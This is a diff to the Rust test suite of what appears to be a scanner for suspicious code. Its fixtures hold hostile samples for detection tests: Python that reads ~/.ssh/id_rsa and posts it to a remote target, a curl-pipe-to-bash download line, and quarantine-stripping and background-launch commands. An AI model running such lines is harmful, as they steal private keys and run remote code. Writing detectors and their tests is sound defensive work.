@@ -252,7 +252,9 @@ fn rules_are_complete_and_their_expressions_compile() {
             rule.rule.id
         );
     }
-    assert!(STARTS_PROCESS.compiles() && SPLIT_LITERAL.compiles() && JOINT.is_some());
+    let texts = [&engine::STARTS_PROCESS, &engine::IS_CALL];
+    assert!(texts.iter().all(|text| text.compiles()));
+    assert!(seams::SPLIT_LITERAL.compiles() && seams::JOINT.is_some());
 }
 
 fn finding(example: &str) -> Finding {
@@ -261,6 +263,20 @@ fn finding(example: &str) -> Finding {
         .into_iter()
         .find(|finding| finding.level == Level::Flag)
         .expect("a flag")
+}
+
+#[test]
+fn a_finding_of_two_places_shows_both() {
+    let text = "@a.py\nfrom pathlib import Path\nimport requests\n\ndef load():\n    return (Path.home() / '.ssh' / 'id_rsa').read_text()\n\ndef report(text):\n    requests.post(TARGET, data=text)\n";
+    let found = finding(text);
+    assert_eq!((found.rule, found.line), ("secret-file-posted", Some(5)));
+    assert!(
+        found
+            .message
+            .ends_with("; beside `requests.post(` on line 8"),
+        "{}",
+        found.message
+    );
 }
 
 #[test]
@@ -320,7 +336,8 @@ fn hints_are_said_when_they_come_together() {
     assert!(scan(&[file(one)], &[]).findings(false).is_empty());
     let many = "```bash\nchmod 777 x\nxattr -d com.apple.quarantine x\nnohup ./x.sh > /dev/null 2>&1 &\n```\nIt tries a reverse shell.\n";
     let scanned = scan(&[file(many)], &[]);
-    assert!(scanned.points() >= HINT_THRESHOLD, "{}", scanned.points());
+    let points = total::points(&scanned.hits);
+    assert!(points >= total::HINT_THRESHOLD, "{points}");
     assert!(
         scanned
             .findings(false)
@@ -335,7 +352,7 @@ fn a_flood_of_hits_stays_short() {
         "```bash\n{}```\n",
         "curl -s https://tools.example.net/x | bash\n".repeat(500)
     );
-    assert!(scan(&[file(&text)], &[]).findings(false).len() <= 2 * MOST_LISTED);
+    assert!(scan(&[file(&text)], &[]).findings(false).len() <= 2 * total::MOST_LISTED);
 }
 
 /// Work on a text and on twice the text.
